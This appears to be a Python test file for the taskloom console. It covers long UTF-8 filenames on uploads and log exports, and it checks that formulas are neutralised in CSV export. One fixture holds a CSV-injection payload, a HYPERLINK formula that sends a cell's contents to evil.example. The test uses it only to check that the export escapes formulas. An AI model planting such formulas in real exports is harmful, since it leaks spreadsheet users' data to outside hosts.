"""Console file routes against a real `taskloom serve`: an upload whose name is 484
bytes of UTF-8, a system-log export of a study named "é" * 200 (both once failed with
ENAMETOOLONG), and a formula in the system log neutralised in the CSV export."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import unquote

from taskloom.collector.store import Store
from tests.collector.factories import LiveCollector
from tests.server.console.conftest import login_client
from tests.server.console.factories import Seeded, import_csv, two_level_log, write_csv


def test_upload_named_with_484_bytes(server: LiveCollector, seeded: Seeded) -> None:
    """The console takes names of up to 255 characters; 244 of them in two-byte UTF-8
    are 484 bytes, over the file systems' 255-byte limit."""
    ann = login_client(server, "ann")
    name = "é" * 240 + ".csv"
    body = b"case,activity,timestamp\nc1,a,2026-01-01T00:00:00Z\n"
    r = ann.post(f"/api/v1/studies/{seeded.study_a}/uploads", params={"name": name}, content=body)
    assert r.status_code == 201, r.text
    stored = r.json()["file_name"]
    assert stored.endswith(".csv") and len(stored.encode()) <= 120


def test_system_log_export_of_a_study_named_200_accents(server: LiveCollector, seeded: Seeded,
                                                          tmp_path: Path) -> None:
    log = two_level_log(8, seed=5)
    log.loc[0, "resource"] = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    store = Store.open(seeded.db)
    try:
        study = store.create_study("é" * 200, {}, "long name")
        import_csv(store, study.id, write_csv(log, tmp_path / "long.csv"))
    finally:
        store.close()
    ada = login_client(server, "ada")
    for fmt in ("csv", "xes", "parquet"):
        r = ada.get(f"/api/v1/studies/{study.id}/system-log/export", params={"format": fmt})
        assert r.status_code == 200, r.text
        name = unquote(r.headers["content-disposition"])
        assert name.endswith(f"-system-log.{fmt}") and "é" * 20 in name
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
            cells = [c for row in rows for c in row]
            assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert '\'=HYPERLINK("http://evil.example/?x="&A1,"x")' in cells
